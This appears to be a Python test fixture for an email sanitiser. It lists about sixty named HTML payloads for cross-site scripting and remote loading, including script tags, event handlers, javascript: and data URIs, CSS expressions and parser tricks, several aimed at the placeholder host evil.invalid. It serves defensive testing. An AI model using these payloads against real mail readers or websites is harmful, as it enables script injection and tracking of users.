"""HTML payloads that try to run script or load something in a mail reader.

Each entry is (name, html). The unit tests run every one through the sanitiser; the browser
test mails them all and reads each in Chromium, watching for dialogs and outside requests.
`REMOTE` is the host every payload tries to reach: no request may go there.
"""

from __future__ import annotations

REMOTE = "evil.invalid"

PAYLOADS: list[tuple[str, str]] = [
    ("script tag", "<script>alert(1)</script>hello"),
    ("script src", f'<script src="https://{REMOTE}/x.js"></script>'),
    ("script in caps", "<SCRIPT>alert(1)</SCRIPT>"),
    ("script split", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("img onerror", "<img src=x onerror=alert(1)>"),
    ("img onerror quoted", '<img src="x" onerror="alert(1)">'),
    ("body onload", "<body onload=alert(1)>text</body>"),
    ("svg onload", "<svg onload=alert(1)></svg>"),
    ("svg script", "<svg><script>alert(1)</script></svg>"),
    ("svg animate href", '<svg><a><animate attributeName="href" values="javascript:alert(1)"/>'
                         '<text x="20" y="20">click</text></a></svg>'),
    ("svg foreignObject", "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'>"
                          "</iframe></foreignObject></svg>"),
    ("math href", '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'),
    ("a javascript", '<a href="javascript:alert(1)">click</a>'),
    ("a javascript spaced", '<a href=" javascript:alert(1)">click</a>'),
    ("a javascript entity", '<a href="jav&#x61;script:alert(1)">click</a>'),
    ("a javascript tab", '<a href="jav\tascript:alert(1)">click</a>'),
    ("a javascript newline entity", '<a href="java&#10;script:alert(1)">click</a>'),
    ("a vbscript", '<a href="vbscript:msgbox(1)">click</a>'),
    ("a data html", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'),
    ("img data svg", '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'),
    ("img javascript", '<img src="javascript:alert(1)">'),
    ("iframe", f'<iframe src="https://{REMOTE}/"></iframe>'),
    ("iframe srcdoc", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>"),
    ("object", f'<object data="https://{REMOTE}/x.swf"></object>'),
    ("embed", f'<embed src="https://{REMOTE}/x.swf">'),
    ("form", f'<form action="https://{REMOTE}/"><input name=a><button>go</button></form>'),
    ("meta refresh", f'<meta http-equiv="refresh" content="0;url=https://{REMOTE}/">'),
    ("base href", f'<base href="https://{REMOTE}/"><a href="x">x</a>'),
    ("link stylesheet", f'<link rel="stylesheet" href="https://{REMOTE}/x.css">'),
    ("style import", f"<style>@import url(https://{REMOTE}/x.css);</style>"),
    ("style background", f"<style>body{{background:url(https://{REMOTE}/bg.png)}}</style>"),
    ("inline style url", f'<div style="background-image:url(https://{REMOTE}/bg.png)">x</div>'),
    ("inline style escaped url", f'<div style="background:\\75rl(https://{REMOTE}/e.png)">x</div>'),
    ("inline style expression", '<div style="width:expression(alert(1))">x</div>'),
    ("inline style comment", '<div style="width:ex/**/pression(alert(1))">x</div>'),
    ("inline style binding", f'<div style="-moz-binding:url(https://{REMOTE}/x.xml#x)">x</div>'),
    ("remote image", f'<img src="https://{REMOTE}/track.png" alt="tracker">'),
    ("remote image http", f'<img src="http://{REMOTE}/track.png">'),
    ("protocol-relative image", f'<img src="//{REMOTE}/track.png">'),
    ("srcset", f'<img srcset="https://{REMOTE}/a.png 1x">'),
    ("picture source", f'<picture><source srcset="https://{REMOTE}/p.png"><img alt=p></picture>'),
    ("table background", f'<table background="https://{REMOTE}/bg.png"><tr><td>x</td></tr></table>'),
    ("video poster", f'<video poster="https://{REMOTE}/p.png"></video>'),
    ("audio", f'<audio src="https://{REMOTE}/a.mp3" autoplay></audio>'),
    ("broken markup attribute", '<img """><script>alert(1)</script>">'),
    ("unclosed attribute", "<a href='x onmouseover=alert(1) x='>y</a>"),
    ("comment trick", "<!--<img src=\"--><img src=x onerror=alert(1)//\">"),
    ("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    ("noscript trick", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'),
    ("textarea trick", "<textarea></textarea><img src=x onerror=alert(1)>"),
    ("title trick", "<title><img src=x onerror=alert(1)></title>"),
    ("nested quotes", "<div title='\"><script>alert(1)</script>'>x</div>"),
    ("event on anchor", '<a href="https://example.org/" onclick="alert(1)">ok</a>'),
    ("formaction", '<button formaction="javascript:alert(1)">x</button>'),
    ("details ontoggle", "<details open ontoggle=alert(1)><summary>s</summary></details>"),
    ("xmp", "<xmp><img src=x onerror=alert(1)></xmp>"),
    ("utf7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    ("null byte", "<scr\x00ipt>alert(1)</script>"),
    ("mixed case handler", "<img src=x OnErRoR=alert(1)>"),
    ("slash separator", "<img/src=x/onerror=alert(1)>"),
    ("marquee", "<marquee onstart=alert(1)>x</marquee>"),
    ("http-equiv set-cookie", '<meta http-equiv="Set-Cookie" content="session=evil">'),
]
